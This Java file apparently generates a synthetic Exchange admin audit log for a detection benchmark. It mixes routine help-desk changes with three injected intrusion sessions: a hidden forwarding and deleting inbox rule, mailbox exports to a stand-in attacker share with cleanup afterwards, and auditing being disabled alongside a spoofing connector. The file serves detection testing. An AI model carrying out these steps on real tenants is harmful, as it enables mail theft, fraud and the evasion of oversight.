package spoor.bench.samples;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Random;

/// An export of the Exchange admin audit log: two weeks of a help desk's routine, and three
/// sessions of somebody who is not the help desk.
final class ExchangeAudit {
    private static final Instant START = Instant.parse("2026-09-07T00:00:00Z");
    private static final int DAYS = 14;
    private static final String SERVICE = "NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)";
    private static final List<Admin> ADMINS =
            List.of(
                    new Admin("amina.diallo@example.com", "192.0.2.21"),
                    new Admin("bo.lindqvist@example.com", "192.0.2.34"),
                    new Admin("chen.wei@example.com", "198.51.100.12"),
                    new Admin("dana.okafor@example.com", "192.0.2.57"),
                    new Admin("eero.salo@example.com", "[2001:db8:20::8]:51902"));
    private static final List<String> PEOPLE =
            List.of(
                    "f.haddad",
                    "g.moreau",
                    "h.tanaka",
                    "i.petrov",
                    "j.mwangi",
                    "k.olsen",
                    "l.rossi",
                    "m.silva",
                    "n.kaya",
                    "o.brien",
                    "p.nowak",
                    "q.zhang",
                    "r.cohen",
                    "s.ivanova",
                    "t.dubois",
                    "u.garcia");
    private static final List<String> GROUPS =
            List.of("All Staff", "Finance", "Sales Nordics", "Warehouse", "Works Council");

    private final Random random = new Random(20260907);
    private final List<Event> events = new ArrayList<>();

    private record Admin(String user, String address) {}

    private record Parameter(String name, String value) {}

    private record Event(Instant time, Admin admin, String operation, List<Parameter> parameters) {}

    byte[] csv() {
        for (int day = 0; day < DAYS; day++) {
            routine(START.plus(day, ChronoUnit.DAYS), day % 7 >= 5);
        }
        forwarding(Instant.parse("2026-09-15T02:41:17Z"));
        mailboxExport(Instant.parse("2026-09-17T23:08:40Z"));
        auditOff(Instant.parse("2026-09-19T03:27:05Z"));
        events.sort(Comparator.comparing(Event::time));
        StringBuilder out =
                new StringBuilder("TimeGenerated,UserId,ClientIP,Operation,Parameters\n");
        for (Event event : events) {
            out.append(event.time()).append(',').append(event.admin().user()).append(',');
            out.append(event.admin().address()).append(',').append(event.operation()).append(',');
            out.append(quoted(json(event.parameters()))).append('\n');
        }
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }

    private void routine(Instant day, boolean weekend) {
        Admin service = new Admin(SERVICE, "");
        for (int run = 0; run < 2; run++) {
            Session session = at(day, 1 + 12 * run, service);
            int policies = 4 + random.nextInt(3);
            for (int policy = 0; policy < policies; policy++) {
                conditionalAccess(session);
            }
        }
        if (weekend) {
            return;
        }
        for (int admin = 0; admin < ADMINS.size(); admin++) {
            changeUsers(at(day, 7, ADMINS.get(admin)));
            if (random.nextInt(2) == 0) {
                joiner(at(day, 9, ADMINS.get(admin)));
            } else {
                leaver(at(day, 11, ADMINS.get(admin)));
            }
        }
        if (day.equals(START.plus(3, ChronoUnit.DAYS))
                || day.equals(START.plus(10, ChronoUnit.DAYS))) {
            mailFlow(at(day, 12, ADMINS.get(4)));
        }
        delegate(at(day, 13, ADMINS.get(random.nextInt(ADMINS.size()))));
        ownRule(
                at(
                        day,
                        15,
                        new Admin(
                                person() + "@example.com",
                                "192.0.2." + (100 + random.nextInt(80)))));
    }

    private void changeUsers(Session session) {
        int users = 1 + random.nextInt(5);
        for (int user = 0; user < users; user++) {
            session.add(
                    "Set-User",
                    new Parameter("Identity", person()),
                    new Parameter(
                            random.nextInt(3) == 0 ? "Department" : "Phone",
                            random.nextInt(3) == 0
                                    ? ""
                                    : "+46 31 555 0" + (100 + random.nextInt(900))));
        }
        if (random.nextInt(6) == 0) {
            session.add(
                    "Set-Mailbox",
                    new Parameter("Identity", person()),
                    new Parameter("ProhibitSendQuota", "99 GB (106,300,440,576 bytes)"));
        }
    }

    private void joiner(Session session) {
        String person = person();
        session.add(
                "New-Mailbox",
                new Parameter("Name", person),
                new Parameter("MicrosoftOnlineServicesID", person + "@example.com"),
                new Parameter("ResetPasswordOnNextLogon", "True"));
        session.add(
                "Set-Mailbox",
                new Parameter("Identity", person),
                new Parameter("ProhibitSendQuota", "49 GB (52,613,349,376 bytes)"),
                new Parameter("SingleItemRecoveryEnabled", "True"));
        group(session, "Add-DistributionGroupMember", person);
        session.add(
                "Set-CASMailbox",
                new Parameter("Identity", person),
                new Parameter("PopEnabled", "False"),
                new Parameter("ImapEnabled", "False"));
    }

    private void leaver(Session session) {
        String person = person();
        session.add(
                "Set-CASMailbox",
                new Parameter("Identity", person),
                new Parameter("OWAEnabled", "False"),
                new Parameter("ActiveSyncEnabled", "False"));
        group(session, "Remove-DistributionGroupMember", person);
        session.add(
                "Set-Mailbox",
                new Parameter("Identity", person),
                new Parameter("Type", "Shared"),
                new Parameter("HiddenFromAddressListsEnabled", "True"));
    }

    private void group(Session session, String operation, String person) {
        int groups = 1 + random.nextInt(3);
        for (int group = 0; group < groups; group++) {
            session.add(
                    operation,
                    new Parameter("Identity", GROUPS.get(random.nextInt(GROUPS.size()))),
                    new Parameter("Member", person));
        }
    }

    private void delegate(Session session) {
        String owner = person();
        String user = person();
        session.add(
                "Add-MailboxPermission",
                new Parameter("Identity", owner),
                new Parameter("User", user),
                new Parameter("AccessRights", "FullAccess"),
                new Parameter("AutoMapping", "True"));
        session.add(
                "Add-RecipientPermission",
                new Parameter("Identity", owner),
                new Parameter("Trustee", user),
                new Parameter("AccessRights", "SendAs"));
    }

    private void mailFlow(Session session) {
        session.add(
                "Set-TransportConfig", new Parameter("MaxSendSize", "35 MB (36,700,160 bytes)"));
        session.add(
                "Set-OwaMailboxPolicy",
                new Parameter("Identity", "OwaMailboxPolicy-Default"),
                new Parameter("WacEditingEnabled", "True"));
        session.add(
                "Set-OwaMailboxPolicy",
                new Parameter("Identity", "OwaMailboxPolicy-Kiosk"),
                new Parameter("WacEditingEnabled", "False"));
    }

    private void ownRule(Session session) {
        session.add(
                "New-InboxRule",
                new Parameter("Name", "Newsletters \"weekly\""),
                new Parameter("FromAddressContainsWords", "news@lists.example.org"),
                new Parameter("MoveToFolder", "Inbox\\Read later"));
    }

    private void conditionalAccess(Session session) {
        session.add(
                "Set-ConditionalAccessPolicy",
                new Parameter(
                        "Identity",
                        "example.onmicrosoft.com\\"
                                + (1 + random.nextInt(6))
                                + "f0c4ff1-1cd7-4bf6-8607-294a04f58f12"),
                new Parameter(
                        "PolicyDetails",
                        "{\"Version\":0,\"State\":\""
                                + (random.nextInt(2) == 0 ? "Enabled" : "Disabled")
                                + "\",\"SignInFrequency\":\"NotSet\"}"),
                new Parameter("TenantDefaultPolicy", random.nextInt(2) == 0 ? "" : "18"));
    }

    /// A rule that hides the victim's mail, a role that opens all mailboxes, then mail forwarded
    /// out.
    private void forwarding(Instant time) {
        Session session = new Session(time, new Admin("dana.okafor@example.com", "203.0.113.77"));
        session.add("Set-User", new Parameter("Identity", "g.moreau"), new Parameter("Phone", ""));
        session.add(
                "New-InboxRule",
                new Parameter("Name", "."),
                new Parameter("Mailbox", "g.moreau"),
                new Parameter("SubjectOrBodyContainsWords", "invoice;payment;iban"),
                new Parameter("ForwardTo", "g.moreau.example@mail.example.net"),
                new Parameter("DeleteMessage", "True"));
        session.add(
                "New-ManagementRoleAssignment",
                new Parameter("Role", "ApplicationImpersonation"),
                new Parameter("User", "dana.okafor"));
        session.add(
                "Set-Mailbox",
                new Parameter("Identity", "g.moreau"),
                new Parameter("ForwardingSmtpAddress", "smtp:g.moreau.example@mail.example.net"),
                new Parameter("DeliverToMailboxAndForward", "False"));
    }

    /// The right to export, two exports, and the requests removed again.
    private void mailboxExport(Instant time) {
        Session session = new Session(time, new Admin("chen.wei@example.com", "203.0.113.140"));
        session.add(
                "Add-MailboxPermission",
                new Parameter("Identity", "r.cohen"),
                new Parameter("User", "chen.wei"),
                new Parameter("AccessRights", "FullAccess"),
                new Parameter("AutoMapping", "False"));
        session.add(
                "New-ManagementRoleAssignment",
                new Parameter("Role", "Mailbox Import Export"),
                new Parameter("User", "chen.wei"));
        for (String victim : List.of("r.cohen", "s.ivanova")) {
            session.add(
                    "New-MailboxExportRequest",
                    new Parameter("Mailbox", victim),
                    new Parameter("FilePath", "\\\\203.0.113.140\\pst\\" + victim + ".pst"));
        }
        session.add(
                "Set-Mailbox",
                new Parameter("Identity", "r.cohen"),
                new Parameter("RetainDeletedItemsFor", "00:00:00"));
        session.add(
                "Remove-MailboxExportRequest",
                new Parameter("Identity", "r.cohen\\MailboxExport"),
                new Parameter("Confirm", "False"));
    }

    /// Auditing switched off, and a way in for spoofed mail.
    private void auditOff(Instant time) {
        Session session =
                new Session(time, new Admin("dana.okafor@example.com", "[2001:db8:bad::1]:40114"));
        session.add(
                "Set-CASMailbox",
                new Parameter("Identity", "dana.okafor"),
                new Parameter("ImapEnabled", "True"));
        session.add(
                "Set-AdminAuditLogConfig",
                new Parameter("UnifiedAuditLogIngestionEnabled", "False"));
        session.add(
                "Set-Mailbox",
                new Parameter("Identity", "g.moreau"),
                new Parameter("AuditEnabled", "False"));
        session.add(
                "New-InboundConnector",
                new Parameter("Name", "Partner relay"),
                new Parameter("SenderDomains", "smtp:*;1"),
                new Parameter("SenderIPAddresses", "203.0.113.77"));
    }

    private Session at(Instant day, int hour, Admin admin) {
        return new Session(day.plusSeconds(hour * 3600L + random.nextInt(6000)), admin);
    }

    private String person() {
        return PEOPLE.get(random.nextInt(PEOPLE.size()));
    }

    /// Adds events 5 to 70 seconds apart.
    private final class Session {
        private Instant time;
        private final Admin admin;

        Session(Instant start, Admin admin) {
            this.time = start;
            this.admin = admin;
        }

        void add(String operation, Parameter... parameters) {
            events.add(new Event(time, admin, operation, List.of(parameters)));
            time = time.plusSeconds(5 + random.nextInt(65));
        }
    }

    private static String json(List<Parameter> parameters) {
        StringBuilder out = new StringBuilder("[");
        for (int i = 0; i < parameters.size(); i++) {
            out.append(i == 0 ? "\n" : ",\n").append("  {\n    \"Name\": ");
            out.append(text(parameters.get(i).name())).append(",\n    \"Value\": ");
            out.append(text(parameters.get(i).value())).append("\n  }");
        }
        return out.append("\n]").toString();
    }

    private static String text(String value) {
        return '"' + value.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
    }

    private static String quoted(String value) {
        return '"' + value.replace("\"", "\"\"") + '"';
    }
}
